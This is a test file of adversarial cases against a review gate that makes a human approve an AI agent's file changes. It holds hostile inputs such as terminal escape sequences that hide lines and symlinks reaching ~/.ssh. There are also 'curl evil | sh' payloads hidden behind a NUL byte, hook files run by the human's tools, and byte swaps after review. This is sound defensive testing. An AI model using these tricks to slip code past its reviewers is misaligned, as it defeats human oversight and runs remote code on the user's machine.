// Adversarial review of review shares (THREAT-MODEL A31): the agent (hostile) writes into its
// overlay whatever it likes (names, bytes, types, modes, xattrs, links, depth) and the human then
// runs `au changes`, `au accept`, `au discard`. Every attack tried is a test: one the defence
// stops is a plain passing test; one that succeeds is marked todo 'ATTACK SUCCEEDS: ...'.
import assert from 'node:assert/strict';
import { lstatSync, readFileSync, readdirSync, readlinkSync } from 'node:fs';
import { after, before, describe, test } from 'node:test';
import { type ChildProcess } from 'node:child_process';
import { join } from 'node:path';
import { auRunHolding, background } from '../helpers/background.js';
import { type Human, type Result, createHuman, packageForHumans, sh } from '../helpers/system.js';

const REVIEW_ROOT = '/var/lib/agent-as-unix-user/review';

interface JsonChange {
  path: string;
  kind: string;
  replaces?: string;
  partOf?: string;
  type: string;
  risky: boolean;
  reasons: string[];
  refused?: string;
  conflict?: string;
  from?: string;
  target?: string;
  mode?: string;
  oldMode?: string;
}

describe('review shares: attacks', () => {
  let human: Human;
  let agent: string;
  let src: string;
  let tgt: string;
  let stage: string;
  const children: ChildProcess[] = [];

  const said = (r: Result): string => `status ${r.status}\nstdout: ${r.stdout}\nstderr: ${r.stderr}`;
  const inRun = (script: string): Result => {
    const r = human.au(['run', '-a', agent, '-d', tgt, '--', 'bash', '-c', script], { timeoutMs: 120_000 });
    assert.equal(r.status, 0, said(r));
    return r;
  };
  const asHuman = (script: string): Result => {
    const r = human.run(['bash', '-c', script]);
    assert.equal(r.status, 0, said(r));
    return r;
  };
  const changesJson = (): JsonChange[] => {
    const r = human.au(['changes', '-a', agent, '--json'], { timeoutMs: 60_000 });
    assert.equal(r.status, 0, said(r));
    return (JSON.parse(r.stdout) as { changes: JsonChange[] }[])[0]!.changes;
  };
  /** Nothing staged again (as root, so that even a tree au cannot walk goes). */
  const reset = (): void => {
    sh(['bash', '-c', `shopt -s dotglob; rm -rf --one-file-system ${stage}/upper/*`]);
  };

  before(() => {
    human = createHuman();
    agent = human.newAgent();
    src = `${human.home}/proj`;
    tgt = `/home/${agent}/proj`;
    asHuman(
      [
        `mkdir -p ${src}/sub ${src}/docs && cd ${src}`,
        'echo hello > a.txt && printf "#!/bin/sh\\necho build\\n" > build.sh && chmod 755 build.sh && echo x > sub/x',
        'echo one > docs/one.md && echo two > docs/two.md',
        `printf '{ "name": "p", "scripts": { "test": "true" } }\\n' > package.json`,
      ].join(' && '),
    );
    const add = human.au(['mount', 'add', '--review', '-a', agent, src]);
    assert.equal(add.status, 0, said(add));
    const entry = readdirSync(`${REVIEW_ROOT}/${agent}`)[0] ?? '';
    stage = `${REVIEW_ROOT}/${agent}/${entry}`;
  });
  after(() => {
    for (const child of children) if (child.exitCode === null) child.kill('SIGKILL');
    human.cleanup();
    sh(['rm', '-rf', `${REVIEW_ROOT}/${agent}`]);
  });

  test('escape sequences in a refused symlink target reach the human raw through `au changes` and `--diff` (REFUSED text not escaped)', () => {
    try {
      // Sorted last ("zz"), its line moves the cursor up and erases the lines listed before it.
      inRun(`printf '#!/bin/sh\\n' > Makefile && ln -s "$(printf '/x\\033[1A\\033[2K\\033[1A\\033[2K')" zz`);
      const text = human.au(['changes', '-a', agent]);
      assert.equal(text.status, 0, said(text));
      const diff = human.au(['changes', '-a', agent, '--diff']);
      const dry = human.au(['accept', '--dry-run', '-a', agent, '--include-risky']);
      const raw = {
        changes: text.stdout.includes('\x1b[1A'),
        diff: diff.stdout.includes('\x1b[1A'),
        acceptDryRun: dry.stdout.includes('\x1b[1A'),
      };
      assert.deepEqual(
        raw,
        { changes: false, diff: false, acceptDryRun: false },
        `agent bytes raw in the output: ${JSON.stringify(text.stdout)}`,
      );
    } finally {
      reset();
    }
  });

  test('escape sequences, C1 controls, bidi overrides and newlines in names and in-share symlink targets are escaped by `au changes`', () => {
    try {
      inRun(
        `touch "$(printf 'a\\033]52;c;cHduZWQ=\\007')" "$(printf 'b\\302\\233 2J')" "$(printf 'c\\342\\200\\256txt.sh')" "$(printf 'd\\nRISKY none')" && ln -s "$(printf 'sub/\\033[2J')" e`,
      );
      const text = human.au(['changes', '-a', agent]);
      assert.equal(text.status, 0, said(text));
      assert.ok(!/[\x1b\x07\u009b\u202e]/.test(text.stdout), JSON.stringify(text.stdout));
      assert.ok(!/^RISKY none/m.test(text.stdout), 'a newline in a name made a line of its own');
    } finally {
      reset();
    }
  });

  test('a symlink whose target is lexically inside the share but leaves it through another agent symlink (a -> ., b -> a/../..) is not refused: accepted, SRC points outside', () => {
    try {
      inRun('ln -s . a && ln -s a/../.ssh keys');
      const c = changesJson();
      const keys = c.find((x) => x.path === 'keys');
      assert.ok(keys, JSON.stringify(c));
      if (!keys.refused) {
        const r = human.au(['accept', '-a', agent, 'a', 'keys']);
        assert.equal(r.status, 0, said(r));
        asHuman(`mkdir -p ${human.home}/.ssh`);
        const real = sh(['readlink', '-f', `${src}/keys`]).stdout.trim(); // the kernel's resolution (Node's realpath is lexical here)
        assert.ok(real.startsWith(`${src}/`), `SRC/keys resolves to ${real}, outside the share`);
      }
    } finally {
      reset();
      sh(['rm', '-f', `${src}/a`, `${src}/keys`]);
    }
  });

  test('a FIFO, a socket: listed as refused, `au changes` and `au accept` do not block on them, nothing applied', () => {
    try {
      inRun(
        'mkfifo fifo && python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.bind(\'sock\')" 2>/dev/null; mkfifo package.json.tmp; rm -f a.txt && mkfifo a.txt',
      );
      const c = changesJson();
      for (const p of ['fifo', 'a.txt']) assert.ok(c.find((x) => x.path === p)?.refused, `${p}: ${JSON.stringify(c)}`);
      const r = human.au(['accept', '-a', agent, '--include-risky'], { timeoutMs: 30_000 });
      assert.notEqual(r.status, null, 'au accept hung');
      assert.ok(lstatSync(`${src}/a.txt`).isFile(), 'a.txt replaced');
      assert.ok(!readdirSync(src).includes('fifo'));
    } finally {
      reset();
    }
  });

  test('set-uid / set-gid / sticky bits: risky, and dropped by accept; staged files stay unreachable', () => {
    try {
      inRun('cp /bin/true suid && chmod 6755 suid && mkdir gdir && chmod 2777 gdir && chmod 4755 build.sh');
      const c = changesJson();
      assert.ok(c.find((x) => x.path === 'suid')?.risky);
      assert.ok(c.find((x) => x.path === 'build.sh')?.risky, JSON.stringify(c));
      const r = human.au(['accept', '-a', agent, '--include-risky']);
      assert.equal(r.status, 0, said(r));
      for (const p of ['suid', 'build.sh', 'gdir']) assert.equal(lstatSync(`${src}/${p}`).mode & 0o6000, 0, p);
      assert.equal(lstatSync(stage).mode & 0o777, 0o700);
    } finally {
      reset();
      sh(['rm', '-rf', `${src}/suid`, `${src}/gdir`]);
      sh(['chmod', '755', `${src}/build.sh`]);
    }
  });

  test('world-writable modes (chmod 0777 on a folder, 0666 on a file of the human) are applied by a plain `au accept`, not flagged', () => {
    try {
      inRun('chmod 0777 sub && chmod 0666 a.txt && chmod 0777 build.sh');
      const r = human.au(['accept', '-a', agent]);
      assert.equal(r.status, 0, said(r));
      for (const p of ['sub', 'a.txt', 'build.sh'])
        assert.equal(lstatSync(`${src}/${p}`).mode & 0o022, 0, `${p} is now ${(lstatSync(`${src}/${p}`).mode & 0o777).toString(8)}`);
    } finally {
      reset();
      sh(['chmod', '755', `${src}/sub`, `${src}/build.sh`]);
      sh(['chmod', '644', `${src}/a.txt`]);
    }
  });

  test('a folder of mode 000 (or a package.json of mode 000) in the upper layer makes `au changes`, `au accept` and `au discard` fail for every change', () => {
    try {
      inRun(
        `echo good > good.txt && echo other > other.txt && mkdir locked && echo y > locked/y && chmod 000 locked && printf '{}' > package.json && chmod 000 package.json`,
      );
      const listed = changesJson();
      for (const p of ['locked', 'package.json']) assert.ok(listed.find((x) => x.path === p)?.refused, `${p}: ${JSON.stringify(listed)}`);
      const statuses = {
        changes: human.au(['changes', '-a', agent, '--json']).status,
        accept: human.au(['accept', '-a', agent, 'good.txt']).status,
        discard: human.au(['discard', '-a', agent, 'other.txt']).status,
        discardAll: human.au(['discard', '-a', agent]).status,
      };
      assert.deepEqual(statuses, { changes: 0, accept: 0, discard: 0, discardAll: 0 });
    } finally {
      reset();
      sh(['rm', '-f', `${src}/good.txt`, `${src}/other.txt`]);
    }
  });

  test('deep nesting (2000 folders): `au changes` and `au discard` survive (no stack overflow), nothing half-applied', () => {
    try {
      // One process, no fork per level (2000 levels: each a single component, no path ever near PATH_MAX).
      inRun(
        `python3 -c "import os,time; t=time.time(); os.mkdir('deep'); os.chdir('deep')\nfor i in range(2000): os.mkdir('d'); os.chdir('d')\nopen('f','w').write('end'); print('made in', time.time()-t)"`,
      );
      const run = (args: string[]): string => {
        const r = human.au(args, { timeoutMs: 120_000 });
        return r.status === 0 ? 'ok' : `${r.status}: ${r.stderr.trim().slice(0, 200)}`;
      };
      const deepest = changesJson()
        .filter((x) => x.path.startsWith('deep/'))
        .sort((x, y) => y.path.length - x.path.length)[0];
      assert.match(deepest?.refused ?? '', /folders deep/, 'the part past the depth limit is listed as refused');
      const got = {
        changes: run(['changes', '-a', agent, '--json']),
        accept: run(['accept', '-a', agent, 'deep']),
        discard: run(['discard', '-a', agent]),
      };
      assert.deepEqual(got, { changes: 'ok', accept: 'ok', discard: 'ok' });
      assert.equal(readdirSync(`${stage}/upper`).length, 0, 'au discard left part of the tree');
    } finally {
      reset();
      sh(['rm', '-rf', `${src}/deep`]);
    }
  });

  test('naming the OLD path of a rename applies the risky new path (mv build.sh .husky/pre-commit; au accept build.sh)', () => {
    try {
      inRun('mkdir -p .husky && mv build.sh .husky/pre-commit');
      const c = changesJson();
      const ren = c.find((x) => x.kind === 'renamed');
      assert.ok(ren?.risky, JSON.stringify(c));
      const r = human.au(['accept', '-a', agent, 'build.sh']);
      assert.equal(r.status, 0, said(r));
      assert.ok(!readdirSync(src).includes('.husky'), 'the risky .husky/pre-commit was applied');
    } finally {
      reset();
      sh(['rm', '-rf', `${src}/.husky`]);
      asHuman(`cd ${src} && test -e build.sh || { printf "#!/bin/sh\\necho build\\n" > build.sh && chmod 755 build.sh; }`);
    }
  });

  test('a folder replaced by a file: `au changes` shows one "modified" file and hides that the folder and every file in it are deleted by accept', () => {
    try {
      inRun('rm -rf docs && echo notes > docs');
      const c = changesJson();
      const d = c.filter((x) => x.path.startsWith('docs'));
      assert.ok(
        d.some((x) => x.path === 'docs/one.md' && x.kind === 'deleted') ||
          d.some((x) => /type|replac|folder|director/i.test(`${x.kind} ${x.reasons.join()} ${x.conflict ?? ''}`)),
        JSON.stringify(d),
      );
      assert.deepEqual(
        d.map((x) => [x.path, x.kind, x.replaces ?? x.partOf]),
        [
          ['docs', 'replaced', 'directory'],
          ['docs/one.md', 'deleted', 'docs'],
          ['docs/two.md', 'deleted', 'docs'],
        ],
      );
      const text = human.au(['changes', '-a', agent]);
      assert.match(text.stdout, /replaced +docs .*in place of your directory, which goes with all it holds/);
      assert.match(text.stdout, /deleted +docs\/one\.md .*goes with the replacement of docs/);
      const alone = human.au(['accept', '-a', agent, 'docs/one.md']);
      assert.notEqual(alone.status, 0, 'a deletion that goes with a replacement applied on its own');
      assert.ok(lstatSync(`${src}/docs`).isDirectory());
      const r = human.au(['accept', '-a', agent, 'docs']);
      assert.equal(r.status, 0, said(r));
      assert.equal(readFileSync(`${src}/docs`, 'utf8'), 'notes\n');
      assert.deepEqual(
        changesJson().filter((x) => x.path.startsWith('docs')),
        [],
      );
    } finally {
      reset();
      sh(['rm', '-rf', `${src}/docs`]);
      asHuman(`mkdir -p ${src}/docs && echo one > ${src}/docs/one.md && echo two > ${src}/docs/two.md`);
    }
  });

  test('a sparse file (truncate -s 1G, a few KiB staged): risky (never taken by a plain `au accept`), listed with its size on disk, and copied with its holes when named', () => {
    try {
      inRun('truncate -s 1G sparse.bin && echo x >> sparse.bin');
      const staged = lstatSync(`${stage}/upper/sparse.bin`);
      assert.ok(staged.blocks * 512 < 1 << 20, 'sparse in STAGE');
      const listed = changesJson().find((x) => x.path === 'sparse.bin') as (JsonChange & { size: number; diskSize: number }) | undefined;
      assert.ok(listed?.risky && listed.reasons.some((r) => /very large/.test(r)), JSON.stringify(listed));
      assert.equal(listed.size, (1 << 30) + 2);
      assert.ok(listed.diskSize < 1 << 20, JSON.stringify(listed));
      assert.match(human.au(['changes', '-a', agent]).stdout, /sparse\.bin {2}1\.0 GiB \([\d.]+ KiB on disk\).*RISKY/);
      const plain = human.au(['accept', '-a', agent], { timeoutMs: 120_000 });
      assert.equal(plain.status, 0, said(plain));
      assert.equal(lstatSync(`${src}/sparse.bin`, { throwIfNoEntry: false }), undefined, 'a plain accept leaves the large file staged');
      const r = human.au(['accept', '-a', agent, 'sparse.bin'], { timeoutMs: 120_000 });
      assert.equal(r.status, 0, said(r));
      const applied = lstatSync(`${src}/sparse.bin`);
      assert.ok(applied.blocks * 512 < 64 << 20, `SRC/sparse.bin takes ${Math.round((applied.blocks * 512) / (1 << 20))} MiB of disk`);
    } finally {
      reset();
      sh(['rm', '-f', `${src}/sparse.bin`]);
    }
  });

  test('a file replaced by a folder: listed only as "added a.txt/", accept deletes the human\'s file with no deletion shown', () => {
    try {
      inRun('rm a.txt && mkdir a.txt && echo in > a.txt/in');
      const c = changesJson().filter((x) => x.path === 'a.txt');
      assert.ok(
        c.some(
          (x) =>
            (x.kind === 'replaced' && x.replaces === 'file') ||
            x.kind === 'deleted' ||
            x.kind === 'modified' ||
            /replac|type/i.test(x.reasons.join()),
        ),
        JSON.stringify(c),
      );
      assert.match(human.au(['changes', '-a', agent]).stdout, /replaced +a\.txt\/ .*in place of your file/);
      const r = human.au(['accept', '-a', agent, 'a.txt']);
      assert.equal(r.status, 0, said(r));
      assert.equal(readFileSync(`${src}/a.txt/in`, 'utf8'), 'in\n');
    } finally {
      reset();
      sh(['rm', '-rf', `${src}/a.txt`]);
      asHuman(`echo hello > ${src}/a.txt`);
    }
  });

  test('the conflict flag holds when the agent re-creates its staged file (new inode, new birth time) after the human edited SRC: au compares with the earliest birth it saw (STAGE/base.json)', () => {
    try {
      asHuman(`echo base > ${src}/c.txt && echo base > ${src}/d.txt`);
      inRun('echo agent > c.txt && rm d.txt');
      asHuman(`sleep 1; echo "human edit" > ${src}/c.txt; echo "human edit" > ${src}/d.txt`);
      const flagged = changesJson()
        .filter((x) => x.conflict)
        .map((x) => x.path)
        .sort();
      assert.deepEqual(flagged, ['c.txt', 'd.txt'], 'the honest case is flagged');
      // The agent refreshes: same content, new inode / new whiteout.
      inRun('sleep 1; cp c.txt .t && mv .t c.txt && echo x > d.txt && rm d.txt');
      const after = changesJson()
        .filter((x) => x.conflict)
        .map((x) => x.path)
        .sort();
      assert.deepEqual(after, ['c.txt', 'd.txt'], 'the conflict vanished after the agent re-created its entries');
    } finally {
      reset();
      sh(['rm', '-f', `${src}/c.txt`, `${src}/d.txt`]);
    }
  });

  test("the conflict flag holds when au first looks after the re-creation (noted at the run's start), and an honest later change is no conflict", () => {
    try {
      asHuman(`echo base > ${src}/e.txt && echo base > ${src}/f.txt`);
      inRun('echo agent > e.txt');
      asHuman(`sleep 1; echo "human edit" > ${src}/e.txt`);
      // No au changes in between: the second run's start notes e.txt before the agent re-creates it.
      inRun('sleep 1; cp e.txt .t && mv .t e.txt');
      // The normal case: the human edits f.txt, then the agent changes it (having seen the edit).
      asHuman(`echo "human edit" > ${src}/f.txt; sleep 1`);
      inRun('echo agent > f.txt');
      const listed = changesJson();
      assert.deepEqual(
        listed.filter((x) => x.conflict).map((x) => x.path),
        ['e.txt'],
        JSON.stringify(listed),
      );
      assert.ok(lstatSync(`${stage}/base.json`).isFile(), 'STAGE/base.json written');
      // Accepted: the path is no longer noted; a later change to it is no conflict.
      const ok = human.au(['accept', '-a', agent, 'f.txt']);
      assert.equal(ok.status, 0, said(ok));
      inRun('sleep 1; echo again > f.txt');
      assert.deepEqual(
        changesJson()
          .filter((x) => x.conflict)
          .map((x) => x.path),
        ['e.txt'],
      );
    } finally {
      reset();
      sh(['rm', '-f', `${src}/e.txt`, `${src}/f.txt`, `${stage}/base.json`]);
    }
  });

  test('a later run swaps the bytes of a reviewed, non-risky file: `au accept --expect DIGEST` (the digest `au changes --diff` printed) applies nothing', () => {
    try {
      inRun('echo "console.log(1)" > tool.js');
      const shown = human.au(['changes', '-a', agent, '--diff']);
      assert.match(shown.stdout, /console\.log\(1\)/);
      const digest = /--expect ([0-9a-f]{20}) /.exec(shown.stdout)?.[1];
      assert.ok(digest, said(shown));
      inRun("echo \"require('child_process').execSync('id')\" > tool.js");
      const r = human.au(['accept', '-a', agent, '--expect', digest, 'tool.js']);
      assert.equal(r.status, 1, said(r));
      assert.match(r.stderr, /not those of digest .*nothing applied/);
      assert.equal(lstatSync(`${src}/tool.js`, { throwIfNoEntry: false }), undefined, 'accept applied bytes the human never reviewed');
      // Reviewed again: the new digest applies, and accept says the digest of what it applied.
      const again = human.au(['changes', '-a', agent, '--json']);
      const now = (JSON.parse(again.stdout) as { digest: string }[])[0]!.digest;
      assert.notEqual(now, digest);
      const ok = human.au(['accept', '-a', agent, '--expect', now, 'tool.js']);
      assert.equal(ok.status, 0, said(ok));
      assert.match(ok.stdout, new RegExp(`Digest of the applied changes: ${now}`));
      assert.match(readFileSync(`${src}/tool.js`, 'utf8'), /child_process/);
    } finally {
      reset();
      sh(['rm', '-f', `${src}/tool.js`]);
    }
  });

  test('a mode-000 folder also hides the pending changes from `au sessions list` (counted as 0, silently)', async () => {
    const server = background(
      human.asHuman([process.execPath, join(packageForHumans(), 'bin', 'au'), 'server', 'run']),
      children,
      human.home,
    );
    try {
      inRun('echo pending > pending.txt');
      const listed = async (): Promise<string> => {
        const deadline = Date.now() + 20_000;
        for (;;) {
          const r = human.au(['sessions', 'list']);
          if (r.status === 0 || Date.now() > deadline) return r.stdout + r.stderr;
          await new Promise((resolve) => setTimeout(resolve, 200));
        }
      };
      assert.match(await listed(), new RegExp(`agent ${agent}: 1 change awaits review`), 'the honest case is counted');
      inRun('mkdir locked && chmod 000 locked');
      assert.match(await listed(), new RegExp(`${agent}.*(await|review|unreadable)`), 'the pending change vanished from au sessions list');
      // A share au cannot read at all (here: STAGE not the human's) is reported, not counted as 0.
      sh(['chown', 'root', stage]);
      try {
        assert.match(await listed(), new RegExp(`agent ${agent}: the review share .* cannot be read`));
      } finally {
        sh(['chown', human.name, stage]);
      }
    } finally {
      await server.stop();
      reset();
    }
  });

  test('a NUL byte in a JS comment makes `au changes --diff` hide the whole content as "Binary files differ"; node still runs it; not risky', () => {
    try {
      inRun(`printf '/*\\000*/ require("child_process").execSync("curl evil | sh")\\n' > index.js`);
      const diff = human.au(['changes', '-a', agent, '--diff']);
      assert.equal(diff.status, 0, said(diff));
      assert.match(diff.stdout, /curl evil/, `the diff hid the content: ${JSON.stringify(diff.stdout.slice(0, 400))}`);
      assert.doesNotMatch(diff.stdout, /modified scripts and executables run as you/, 'a new file is called from nowhere yet');
      inRun(`printf '/*\\377*/ require("child_process").execSync("curl evil | sh")\\n' > index.js && echo 'curl evil | sh' >> build.sh`);
      const c = changesJson();
      assert.match(c.find((x) => x.path === 'index.js')?.reasons.join() ?? '', /binary content/, 'a file --diff does not show is risky');
      assert.match(human.au(['changes', '-a', agent]).stdout, /modified scripts and executables run as you/);
    } finally {
      reset();
    }
  });

  test('user.overlay.* xattrs forged through the mount (opaque, whiteout, redirect) do not reach upper as overlay markers', () => {
    try {
      inRun(
        'mkdir -p sub && touch sub/n && (setfattr -n user.overlay.opaque -v y sub; setfattr -n user.overlay.whiteout -v y sub/n; setfattr -n user.overlay.redirect -v /x sub; true) 2>/dev/null',
      );
      const got = sh([
        'getfattr',
        '-d',
        '-m',
        '^user\\.overlay\\.',
        '--absolute-names',
        `${stage}/upper/sub`,
        `${stage}/upper/sub/n`,
      ]).stdout;
      assert.doesNotMatch(got, /^user\.overlay\.(opaque|whiteout|redirect)=/m, got);
      const c = changesJson();
      assert.ok(!c.some((x) => x.path === 'sub/x' && x.kind === 'deleted'), 'a forged opaque marker hid sub/x');
    } finally {
      reset();
    }
  });

  test('hard links inside the overlay: accepted as separate files, SRC shares no inode with upper', () => {
    try {
      inRun('echo hl > h1 && ln h1 h2');
      const r = human.au(['accept', '-a', agent, 'h1', 'h2']);
      assert.equal(r.status, 0, said(r));
      assert.equal(lstatSync(`${src}/h1`).nlink, 1);
      assert.equal(readFileSync(`${src}/h2`, 'utf8'), 'hl\n');
    } finally {
      reset();
      sh(['rm', '-f', `${src}/h1`, `${src}/h2`]);
    }
  });

  test("code the human's tools run, on paths the risk list lacks, is applied by a plain `au accept` (lint-staged, lefthook, .hg/hgrc, .cargo/config.toml, .pnpmfile.cjs, binding.gyp, yarnPath release)", () => {
    const paths = [
      '.lintstagedrc.json',
      'lefthook.yml',
      '.hg/hgrc',
      '.cargo/config.toml',
      '.pnpmfile.cjs',
      'binding.gyp',
      '.yarn/releases/yarn-4.0.0.cjs',
    ];
    try {
      inRun(
        `mkdir -p .hg .cargo .yarn/releases && for p in ${paths.join(' ')}; do echo "evil" > $p; done && sed -i 's/"name": "p"/"name": "p", "lint-staged": { "*": "sh -c evil" }/' package.json`,
      );
      const c = changesJson();
      const missed = [...paths, 'package.json'].filter((p) => !c.find((x) => x.path === p)?.risky);
      assert.deepEqual(missed, [], `not flagged risky: ${missed.join(', ')}`);
    } finally {
      reset();
    }
  });

  test('`au accept` while a run holds the share is refused (the agent cannot race accept from inside a run)', async () => {
    const holder = await auRunHolding(
      human,
      agent,
      tgt,
      'echo v1 > race.txt; echo holding; for i in $(seq 200); do echo "evil $i" > race.txt; sleep 0.05; done',
      children,
    );
    try {
      const r = human.au(['accept', '-a', agent]);
      assert.notEqual(r.status, 0, said(r));
      assert.match(r.stderr, /using this share/);
      assert.ok(!readdirSync(src).includes('race.txt'), 'accepted while a run held the share');
    } finally {
      await holder.stop();
      reset();
      sh(['rm', '-f', `${src}/race.txt`]);
    }
  });

  test('a 255-byte name and a long path: listed and accepted within SRC; invalid UTF-8 refused', () => {
    try {
      inRun(`mkdir -p l && touch "l/${'x'.repeat(255)}" "$(printf 'bad\\377')"`);
      const c = changesJson();
      assert.ok(c.find((x) => x.path.startsWith('bad'))?.refused, JSON.stringify(c.map((x) => x.path)));
      const r = human.au(['accept', '-a', agent, 'l']);
      assert.equal(r.status, 0, said(r));
      assert.ok(lstatSync(`${src}/l/${'x'.repeat(255)}`).isFile());
      assert.ok(!readdirSync(src).some((n) => n.startsWith('bad')));
    } finally {
      reset();
      sh(['rm', '-rf', `${src}/l`]);
    }
  });

  test('a staged symlink named like a folder of SRC does not make accept write through it', () => {
    try {
      inRun('rm -rf sub && ln -s /etc sub');
      const r = human.au(['accept', '-a', agent, '--include-risky']);
      // refused (outside) and nothing written under /etc
      assert.ok(lstatSync(`${src}/sub`).isDirectory(), said(r));
      assert.equal(readlinkSync('/proc/self/exe').length > 0, true);
    } finally {
      reset();
    }
  });

  test('after the DoS trees (mode 000, 2000 levels), `au mount remove --discard-changes` still clears the stage as root, touching nothing in SRC (held: the way out)', () => {
    inRun(
      `mkdir locked && chmod 000 locked && python3 -c "import os; os.mkdir('deep'); os.chdir('deep')\nfor i in range(2000): os.mkdir('d'); os.chdir('d')"`,
    );
    const before = sh(['bash', '-c', `cd ${src} && find . -printf '%p %m %s\\n' | sort | sha256sum`]).stdout;
    const kept = human.au(['mount', 'remove', '-y', '-a', agent, src]);
    assert.notEqual(kept.status, 0, `removed without --discard-changes: ${said(kept)}`);
    const r = human.au(['mount', 'remove', '-y', '--discard-changes', '-a', agent, src], { timeoutMs: 120_000 });
    assert.equal(r.status, 0, said(r));
    assert.notEqual(sh(['test', '-e', stage]).status, 0, 'STAGE left behind');
    assert.equal(sh(['bash', '-c', `cd ${src} && find . -printf '%p %m %s\\n' | sort | sha256sum`]).stdout, before, 'SRC changed');
  });
});
